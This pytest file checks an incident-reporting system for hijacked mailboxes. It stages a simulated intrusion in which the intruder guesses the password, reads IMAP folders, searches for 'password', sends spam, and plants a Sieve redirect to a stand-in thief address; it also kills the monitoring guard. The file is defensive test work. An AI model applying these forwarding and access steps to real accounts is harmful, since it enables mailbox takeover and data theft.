"""P5: a report says exactly what a third party did, each figure with its rows, and nothing of what the owner did in the
same hours from home; where the guard was away for a time, the gap is stated and the figures say "at least".
Sabotage: tests/sabotage/t53.patch (whatever was sent since the first sign is the third party's)."""

from __future__ import annotations

import json
import runpy
import threading
import time
import tomllib
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from harness import ABROAD, OTHER_DOMAIN, ROOT, Box, Stack
from t07_guard_killed import keep_dead

from sekisho.rehearsal.clients import ImapSession, compose
from sekisho.rehearsal.doors import try_imap
from sekisho.rehearsal.outside import wait_until

# Demo mailboxes with a history from Japan, of a customer who is only observed: the intruder can finish his list.
DOMAIN = "yunoyado-kitano.test"
VICTIM, VICTIMS_HOME = f"eigyo@{DOMAIN}", "198.18.30.16"
SECOND, COLLEAGUE = f"info@{DOMAIN}", f"soumu@{DOMAIN}"
THIEF, RUN = "thief@t53-dropbox.test", "t53"
STRANGER, NOBODY, STRICT, BUSY = (f"{word}.{RUN}@bought-list.test" for word in ("new", "nosuch", "strict", "busy"))
# The guard hears at once, guard and worker pass it on within a second each; on a busy machine later.
TOLD_WITHIN = 40.0


@pytest.fixture(autouse=True)
def observed(stack: Stack) -> Iterator[None]:
    """The customer's domain is observed meanwhile, and the guard knows it."""
    stack.command("domain", "mode", DOMAIN, "observe")
    state = stack.var / "agent" / "state.json"
    assert wait_until(lambda: DOMAIN in json.loads(state.read_bytes()).get("modes", {}), 20) is not None
    # The guard looks twice a second.
    time.sleep(1)
    yield
    stack.command("domain", "mode", DOMAIN, "enforce")


def test_the_report_has_exactly_what_the_intruder_did(stack: Stack) -> None:
    box, other = stack.known_box(VICTIM), stack.new_box(RUN, OTHER_DOMAIN)
    partner = usual_partner(box)
    prepare(stack, box)
    owners = stack.submit(box, partner, stack.number(RUN), source=VICTIMS_HOME)

    come_in_and_read(stack, box)
    send(stack, box, [COLLEAGUE, partner, STRANGER], [NOBODY, STRICT], [BUSY])
    stack.plant(box, f'redirect "{THIEF}";\r\n', source=ABROAD)
    letters = [stack.write(box.address, "eigyo@yama-sake.test", RUN) for _ in range(2)]
    assert wait_until(lambda: stack.outside_inbox(THIEF) >= Counter(letters), 30, pause=0.5) is not None
    assert not try_imap(stack.places, other.address, "wrong", ABROAD).accepted
    assert try_imap(stack.places, other.address, other.password, ABROAD).accepted
    again = stack.submit(box, partner, stack.number(RUN), source=VICTIMS_HOME)

    stack.command("mailbox", "suspend", box.address, "--reason", "story")
    number = int(stack.incident(box)["id"])
    wanted = {
        (COLLEAGUE, "own", "delivered"), (partner, "partner", "delivered"), (STRANGER, "stranger", "delivered"),
        (NOBODY, "stranger", "refused"), (STRICT, "stranger", "refused_as_spam"), (BUSY, "stranger", "held"),
    }  # fmt: skip
    wait_until(lambda: recipients(stack, number) == wanted and leaked_right(stack, number), TOLD_WITHIN, pause=1)
    assert recipients(stack, number) == wanted
    assert not {owners, again} & {row["key"] for row in evidence(stack, number, "sent.messages")}

    report = stack.ask("incident", "report", str(number))
    (source,) = report["entry"]["sources"]
    assert (source["ip"], source["country"]) == (ABROAD, "NG")
    assert set(source["protocols"]) >= {"imap", "smtp"}
    assert report["entry"]["guesses"]["value"] == 3
    assert report["sent"]["messages"] == {"name": "sent.messages", "value": 3, "at_least": False}
    folders = {one["name"]: (one["opened"]["value"], one["fetched"]["value"]) for one in report["read"]["folders"]}
    assert folders == {"INBOX": (1, 2), "Work": (1, 1)}
    assert [(one["folder"], one["words"]) for one in report["read"]["searches"]] == [("Work", 'BODY "password"')]
    assert [report["read"][name]["value"] for name in ("sessions", "fetched", "deleted", "stored")] == [1, 3, 0, 0]
    assert [(one["kind"], one["what"], one["state"]) for one in report["changed"]] == [("script", THIEF, "off")]
    # The two letters, and the notices of what was refused if they came in after the forward was planted.
    assert [(one["target"], one["messages"]["value"]) for one in report["leaked"]] == [(THIEF, at_the_thief(stack))]
    told = [(one["mailbox"], one["logins"]["value"], one["failures"]["value"]) for one in report["touched"]]
    assert told == [(other.address, 1, 1)]
    assert (report["gaps"], report["limits"]) == ([], [])
    assert unproved(stack, number) == []
    printed = stack.command("incident", "report", str(number), "--evidence", "sent.outcome:held").stdout
    assert [json.loads(line)["facts"]["recipient"] for line in printed.splitlines()] == [BUSY]


def test_a_time_without_the_guard_is_stated_and_what_it_hid_is_at_least(stack: Stack) -> None:
    box = stack.known_box(SECOND)
    seen = stack.submit(box, f"seen.{STRANGER}", stack.number(RUN), source=ABROAD)
    killer = threading.Thread(target=keep_dead, args=(stack, 6))
    killer.start()
    time.sleep(1)
    unseen = stack.submit(box, f"unseen.{STRANGER}", stack.number(RUN), source=ABROAD)
    killer.join()
    stack.wait_until_guard_answers()
    stack.command("mailbox", "suspend", box.address, "--reason", "story")
    number = int(stack.incident(box)["id"])
    wanted = {(f"{word}.{STRANGER}", "stranger", "delivered") for word in ("seen", "unseen")}
    wait_until(lambda: recipients(stack, number) == wanted, TOLD_WITHIN, pause=1)
    assert recipients(stack, number) == wanted
    assert {row["key"] for row in evidence(stack, number, "sent.messages")} == {seen, unseen}
    report = stack.ask("incident", "report", str(number))
    assert [gap["part"] for gap in report["gaps"] if gap["until"] - gap["since"] >= 3], report["gaps"]
    for figure in (report["sent"]["messages"], report["sent"]["recipients"], report["entry"]["guesses"]):
        assert figure["at_least"], figure
    assert unproved(stack, number) == []


def usual_partner(box: Box) -> str:
    """Somebody outside to whom the owner has long written, by the demo's own history."""
    demo = runpy.run_path(str(ROOT / "demo" / "history.py"))
    provider = tomllib.loads((ROOT / "demo" / "provider.toml").read_text())
    asked = Counter(
        event["recipient"]
        for event in demo["history"](provider, time.time())
        if event["kind"] == "rcpt" and event["account"] == box.address
    )
    return str(asked.most_common(1)[0][0])


def prepare(stack: Stack, box: Box) -> None:
    """Three letters in the inbox, and a folder of the owner's."""
    with ImapSession(stack.places.imap, client_address=VICTIMS_HOME) as owner:
        assert owner.login(box.address, box.password).accepted
        for number, folder in enumerate(("INBOX", "INBOX", "INBOX", "Work", "Work")):
            assert owner.append(folder, compose(f"{RUN}-{number}", box.address, box.address, "Note", "password"))


def come_in_and_read(stack: Stack, box: Box) -> None:
    """Three guesses, then two folders, three messages, one search."""
    for guess in ("sakura", "momiji", "tsubaki"):
        assert not try_imap(stack.places, box.address, guess, ABROAD).accepted
    with ImapSession(stack.places.imap, client_address=ABROAD) as thief:
        assert thief.login(box.address, box.password).accepted
        assert thief.open("INBOX") >= 3
        assert thief.uid("FETCH", "1:2", "(BODY.PEEK[])")
        assert thief.open("Work") == 2
        assert thief.uid("FETCH", "1", "(BODY.PEEK[])")
        assert thief.uid("SEARCH", "BODY", '"password"')


def send(stack: Stack, box: Box, *messages: list[str]) -> None:
    """One message to each list of recipients."""
    with stack.session(box, ABROAD) as session:
        for recipients in messages:
            number = stack.number(RUN)
            sending = session.send(
                box.address, recipients, compose(number, box.address, recipients[0], "Invoice", "Please pay.")
            )
            assert sending.end and sending.end.code == 250 and len(sending.accepted) == len(recipients), sending


def evidence(stack: Stack, number: int, figure: str) -> list[dict[str, Any]]:
    """A figure's rows."""
    found: list[dict[str, Any]] = stack.shell.run(
        f"""
import msgspec
from sekisho.impact.evidence import rows
from sekisho.incidents.models import Incident
result = [msgspec.to_builtins(row) for row in rows(Incident.objects.get(pk={number}), {figure!r})]
"""
    )
    return found


def recipients(stack: Stack, number: int) -> set[tuple[str, str, str]]:
    found = [row["facts"] for row in evidence(stack, number, "sent.recipients")]
    return {(facts["recipient"], facts["relation"], facts["outcome"]) for facts in found if "recipient" in facts}


def at_the_thief(stack: Stack) -> int:
    """How many messages the planted forward has really brought him, counted in his own mailbox."""
    with stack.outside.mailbox(THIEF) as session:
        return len(list(session.bodies()))


def leaked_right(stack: Stack, number: int) -> bool:
    return leaks(stack, number) == {THIEF: at_the_thief(stack)}


def leaks(stack: Stack, number: int) -> dict[str, int]:
    found: Counter[str] = Counter()
    for row in evidence(stack, number, f"leaked:{THIEF}"):
        found[row["facts"]["target"]] += row["facts"]["count"]
    return dict(found)


def unproved(stack: Stack, number: int) -> list[str]:
    """Figures that are not what their rows add up to; of what was read, those without any row."""
    found: list[str] = stack.shell.run(
        f"""
from django.utils import timezone
from sekisho.impact.evidence import rows
from sekisho.impact.figures import figures_of
from sekisho.impact.report import build
from sekisho.incidents.models import Incident
incident, now, result = Incident.objects.get(pk={number}), timezone.now(), []
for name, figure in figures_of(build(incident, now)).items():
    behind = list(rows(incident, name, now))
    counted = sum(int(row.facts.get("count") or 1) for row in behind)
    if counted != figure.value if not name.startswith("read.") else bool(figure.value) != bool(behind):
        result.append(f"{{name}}: {{figure.value}}, rows {{counted}}")
"""
    )
    return found
